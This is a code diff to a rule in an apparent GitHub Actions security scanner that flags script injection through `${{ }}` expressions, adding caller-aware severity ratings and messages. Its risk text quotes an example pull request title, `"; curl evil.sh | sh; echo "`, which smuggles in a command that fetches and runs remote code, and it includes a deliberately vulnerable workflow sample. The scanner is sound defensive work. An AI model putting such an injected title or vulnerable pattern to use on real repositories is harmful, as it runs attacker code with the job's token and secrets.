@@ -9,12 +9,13 @@ import {
   actionTaint,
   describeTaint,
   expressionTaints,
+  taintSeverity,
   workflowTaint,
   type Taint,
   type TaintedRef,
   type TaintScope,
 } from '../../analysis/taint';
-import { describeReach, severityForReach, type Reach } from '../../analysis/triggers';
+import { describeReach, type Reach } from '../../analysis/triggers';
 import { AI_AGENT_PROMPTS, EXECUTING_INPUTS } from '../../knowledge/untrusted-input';
 import { languageOfShell, moveExpressionToEnv, type ScriptLanguage } from '../../fixes/script-env';
 
@@ -36,6 +37,8 @@ export default defineRule({
       risk: 'GitHub substitutes `${{ }}` expressions into the script text before the shell runs it. A pull request title such as `"; curl evil.sh | sh; echo "` becomes shell code running with the job\'s token and secrets. The same holds for values that carry such text further: env vars and step or job outputs set from it, inputs of a composite action or reusable workflow, and prompts of AI agents that can run tools. Severity follows who can trigger the workflow: high when any GitHub user can and the job has secrets (pull_request_target, issue_comment, issues, workflow_run...), medium for fork pull requests, reusable workflows and composite actions, low when only maintainers can.',
       remediation:
         'Pass the value through an environment variable and reference it quoted: `env: TITLE: ${{ github.event.pull_request.title }}` and `echo "$TITLE"` (bash/sh), `$env:TITLE` (pwsh), `%TITLE%` (cmd), `os.environ["TITLE"]` (python), `process.env.TITLE` (actions/github-script). The quick-fix does that, reusing an existing env entry with the same value; an unquoted expansion stays unquoted so the argument count cannot change (see Fix safety). Numbers, SHAs, ids, booleans and statuses are never reported. AI agent prompts have no mechanical fix: gate the workflow on the author\'s association and keep untrusted text out of the prompt.',
+      severity:
+        "Inputs of a reusable workflow or composite action take their severity from the callers found in this repository: a caller passing attacker text (e.g. a pull_request_target job passing the PR title) makes the finding as severe as that caller's trigger and names the caller's `with:` line; callers passing only constants, matrix values or trusted contexts give no finding. With no visible caller (a published action, a callee called from elsewhere) the finding is low: it depends on what callers pass. `workflow_dispatch` inputs are low (only people with write access dispatch). Text on `pull_request` is low: a fork's run has a read-only token and no secrets, and its author can change the workflow itself.",
       vulnerableExample:
         'on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.pull_request.title }}"\n',
       safeExample:
@@ -174,15 +177,7 @@ function strongestHit(hits: TaintedRef[]): TaintedRef {
 
 /** Severity follows who can set the value; confidence follows how sure we are that it is attacker text. */
 export function rating(t: Taint, reach: Reach | 'action'): { severity: Severity; confidence: Confidence } {
-  switch (t.source) {
-    case 'dispatch-input':
-      return { severity: 'low', confidence: t.confidence };
-    case 'call-input':
-    case 'action-input':
-      return { severity: 'medium', confidence: t.confidence };
-    default:
-      return { severity: severityForReach(reach), confidence: t.confidence };
-  }
+  return { severity: taintSeverity(t, reach), confidence: t.confidence };
 }
 
 function sourcePhrase(t: Taint, reach: Reach | 'action'): string {
@@ -190,19 +185,26 @@ function sourcePhrase(t: Taint, reach: Reach | 'action'): string {
     case 'dispatch-input':
       return 'is free text from whoever dispatches the workflow';
     case 'call-input':
-      return 'comes from the calling workflow, which may pass attacker text';
+      return t.caller
+        ? `is passed by a caller (${t.caller}) that forwards its own input: it depends on what that workflow's callers pass`
+        : 'comes from the calling workflow; no caller is visible in this repository, so it depends on what callers pass';
     case 'action-input':
-      return 'comes from the workflow using this action, which may pass attacker text';
-    default:
-      return reach === 'maintainer'
-        ? 'may carry text written by others (e.g. merged commits)'
-        : 'can be set by an outsider';
+      return t.caller
+        ? `is passed by a caller (${t.caller}) that forwards its own input: it depends on what that workflow's callers pass`
+        : 'comes from the workflow using this action; no caller is visible in this repository, so it depends on what callers pass';
+    default: {
+      const who =
+        (t.reach ?? reach) === 'maintainer'
+          ? 'may carry text written by others (e.g. merged commits)'
+          : 'can be set by an outsider';
+      return t.caller ? `${who}: the caller at ${t.caller} passes it in` : who;
+    }
   }
 }
 
 function reachPhrase(t: Taint, reach: Reach | 'action'): string {
   if (t.source === 'dispatch-input') return 'only users with write access can dispatch it';
-  return describeReach(reach);
+  return describeReach(t.reach ?? reach);
 }
 
 function fixFor(
